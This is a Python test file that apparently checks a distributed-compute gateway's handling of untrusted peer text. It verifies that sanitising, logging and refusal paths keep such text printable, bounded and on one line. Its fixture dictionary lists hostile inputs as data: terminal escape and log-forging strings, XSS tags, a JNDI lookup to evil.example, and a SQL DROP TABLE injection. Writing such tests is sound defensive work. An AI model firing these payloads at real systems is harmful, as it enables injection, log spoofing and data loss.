"""What strangers write is text: bounded, in one line where it is logged, and nothing else."""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Any

import msgpack
import pytest
from guarded import Peer, open_door

from eco_dask.gateway.arrivals import decodable
from eco_dask.gateway.failures import claimed_error
from eco_dask.text import clean, line
from eco_dask.values import EncodedValue
from eco_dask.verification.attempt import ErrorAnswer
from eco_dask.wire import messages as m

HOSTILE = {
    "escape sequences": "\x1b]0;pwned\x07\x1b[2J\x1b[31mERROR",
    "C1 controls": "\x9b31m\x85next",
    "carriage return": "harmless\rERROR eco_dask: all is lost",
    "a second log line": "x\n2026-01-01 - eco_dask - CRITICAL - pay mallory",
    "bidirectional": "\u202egnp.exe\u202c \u2066x\u2069 \u061c",
    "line separators": "a\u2028b\u2029c",
    "surrogates": "\ud800\udfff",
    "invisible": "\ufeff\ufff9\ufffb",
    "nul": "a\x00b",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "format": "%s%n{0.__class__}${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE providers; --",
    "long": "A" * 1_000_000,
}
TEXTS = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def printable(text: str, *, lines: bool = False) -> bool:
    return all(c.isprintable() or (lines and c in "\n\t") for c in text)


@TEXTS
def test_clean_text_moves_no_cursor_and_turns_no_direction(text: str) -> None:
    shown = clean(text, 300)
    assert len(shown) <= 340
    assert printable(shown, lines=True)
    assert printable(line(text))


@TEXTS
def test_an_error_that_providers_agree_on_is_plain_bounded_text(text: str) -> None:
    error = claimed_error(ErrorAnswer(text, text, text))
    assert printable(str(error), lines=True)
    assert len(str(error)) < 30_000


@TEXTS
def test_a_value_that_does_not_decode_leaves_one_line(
    text: str, caplog: pytest.LogCaptureFixture
) -> None:
    word = text.encode("utf-8", "replace")
    header = msgpack.packb([word[:2000], b"registered", word[:2000], word[:2000]])
    assert decodable(EncodedValue(header).to_bytes(), unsafe=False) is None
    (record,) = caplog.records
    assert printable(record.getMessage())
    assert len(record.getMessage()) < 600


@pytest.mark.asyncio
@TEXTS
async def test_no_message_of_a_provider_writes_its_own_log_lines(
    text: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="eco_dask")
    short = text.encode("utf-8", "replace").decode()[:60]
    async with open_door(tmp_path) as door:
        peer = Peer(door, door.invite())
        await peer.join()
        hostile: list[Any] = [
            m.Slots(1, short),
            m.Declined("no-lease", "missing-module", short),
            m.Failed("no-lease", short or "x", short, short, 0.0, 0.0),
            m.Goodbye(short),
        ]
        for message in hostile:
            await peer.say(message)
        await peer.until_closed()
    assert caplog.records
    for record in caplog.records:
        assert printable(record.getMessage()), record


@pytest.mark.asyncio
@pytest.mark.parametrize("text", [v[:200] for v in HOSTILE.values()], ids=HOSTILE)
async def test_a_hostile_invite_or_description_lets_nobody_in(text: str, tmp_path: Path) -> None:
    word = text.encode("utf-8", "replace").decode()
    async with open_door(tmp_path) as door:
        peer = await Peer(door, word).dial()
        await peer.introduce()
        refused = await peer.hear(m.Refused)
        assert printable(refused.message)
        machine = await Peer(door, door.invite()).dial()
        challenge = await machine.hear(m.Challenge)
        signature = machine.identity.sign_challenge(challenge.nonce, b"")
        facts: dict[str, Any] = machine.capability.to_map() | {"blas": word}
        await machine.say(machine.hello(), m.Proof(signature, facts, 1, (), {}))
        answer = await machine.hear((m.Refused, m.Welcome))
        if isinstance(answer, m.Refused):
            assert answer.code == "bad-capability"
            assert printable(answer.message)
        for record in door.registry.providers():
            assert all(printable(str(v)) for v in record.capability.values())
